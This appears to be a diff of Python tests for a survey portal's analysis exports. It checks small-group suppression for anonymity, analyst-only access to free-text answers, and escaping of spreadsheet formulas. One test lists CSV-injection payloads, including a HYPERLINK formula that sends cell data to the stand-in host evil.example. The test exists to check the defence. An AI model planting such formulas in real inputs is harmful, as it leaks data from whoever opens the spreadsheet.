@@ -6,10 +6,12 @@ from __future__ import annotations
 import asyncio
 import csv
 import io
+from collections import Counter
 from datetime import date
 
 from starlette.testclient import TestClient
 
+from portal import csvfiles
 from portal.db import Database
 from portal.people import service as people
 from portal.people.models import StaffRoleName
@@ -68,5 +70,61 @@ def test_only_the_analyst_reads_results_as_tables_charts_and_csv(client: TestCli
     exported = client.get(f"/ru/analysis/{RECIPIENTS.id}.csv")
     assert exported.headers["content-type"].startswith("text/csv")
     rows = list(csv.reader(io.StringIO(exported.content.decode("utf-8-sig"))))
-    assert len(rows) == 1 + 8 and rows[0][3] == RECIPIENTS.questions()[0].text("ru")
-    assert {row[1] for row in rows[1:]} == {"lv", "ru"}
+    where = next(q for q in RECIPIENTS.questions() if q.id == "where")
+    assert rows[0][:3] == [translated("ru", "Language of answering"), translated("ru", "Period"), where.text("ru")]
+    # The five from the municipality in Latvian share their combination; the three from colleges stand out: left out.
+    assert len(rows) == 1 + 5 and {row[0] for row in rows[1:]} == {"lv"}
+    what_to_change = next(q for q in RECIPIENTS.questions() if q.id == "what_to_change")
+    assert what_to_change.text("ru") not in rows[0] and not any("Vairāk stundu." in cell for row in rows for cell in row)
+    texts = list(csv.reader(io.StringIO(client.get(f"/ru/analysis/{RECIPIENTS.id}/texts.csv").content.decode("utf-8-sig"))))
+    assert texts == [[translated("ru", "Question"), translated("ru", "Answer")]] + [[what_to_change.text("ru"), "Vairāk stundu."]] * 5
+    switch_to(client, ANNA)
+    assert client.get(f"/lv/analysis/{RECIPIENTS.id}/texts.csv").status_code == 404
+
+
+class Answered:
+    """A response as the export reads it."""
+
+    def __init__(self, language: str, on: date, answers: dict[str, object]) -> None:
+        self.language, self.submitted_on, self.answers = language, on, answers
+
+
+def test_every_combination_in_the_export_is_shared_by_five_or_is_left_out() -> None:
+    """The issue's shape: 34 combinations of language, month, place and service, most of them one person's."""
+    places, services = ("municipality", "university", "college"), ("adult_assistant", "child_assistant", "school_assistant", "")
+    responses = [Answered("lv" if n % 3 else "ru", date(2026, 11 + n % 2, 3), {"where": places[n % 3], "service_kind": services[n % 4]})
+                 for n in range(34)] + [Answered("lv", date(2026, 11, 5), {"where": "municipality", "service_kind": "adult_assistant"})] * 6
+    shown, left_out = analysis.safe_rows(responses)
+    assert len(shown) + left_out == len(responses) and left_out < analysis.MIN_GROUP
+    combinations = Counter((r.language, r.month, r.place, r.service) for r in shown)
+    assert min(combinations.values()) >= analysis.MIN_GROUP, combinations
+    assert combinations[("lv", "2026-11", "municipality", "adult_assistant")] >= 6  # a big enough group keeps everything
+    assert any(None in key for key in combinations)  # the rest were coarsened
+
+
+def test_a_formula_a_visitor_writes_comes_out_of_the_csv_neutralised(client: TestClient, database_url: str) -> None:
+    portal = all_surveys()["portal-2026"]
+    formulas = ['=HYPERLINK("http://evil.example/?"&A1,"Click")', "+1+1", "-2+3", "@SUM(A1)", "\tTab", "\rReturn"]
+
+    async def answered() -> None:
+        db = Database(database_url)
+        for text in [*formulas, "Labi."]:
+            async with db.session() as session:
+                await service.submit_public(session, portal, {"ease": "4", "purpose": "other", "improve": text}, "lv", date(2026, 11, 20))
+        await service.release_held(db, date(2026, 11, 20))
+        await db.dispose()
+
+    seed(database_url, [])
+    asyncio.run(answered())
+    sign_in(client, PETERIS)
+    texts = list(csv.reader(io.StringIO(client.get(f"/lv/analysis/{portal.id}/texts.csv").content.decode("utf-8-sig"))))
+    assert sorted(row[1] for row in texts[1:]) == sorted(["'" + text for text in formulas] + ["Labi."])
+
+
+def test_a_cell_is_neutralised_only_when_a_spreadsheet_would_read_a_formula() -> None:
+    for start in ("=", "+", "-", "@", "\t", "\r"):
+        assert csvfiles.cell(start + "1") == "'" + start + "1"
+    assert [csvfiles.cell(v) for v in ("Labi", " =1", "", None, 5, -5, 2.5)] == ["Labi", " =1", "", "", 5, -5, 2.5]
+    out = io.StringIO()
+    csvfiles.writer(out).writerow(["=1+2", "a,b"])
+    assert out.getvalue() == "'=1+2,\"a,b\"\r\n"
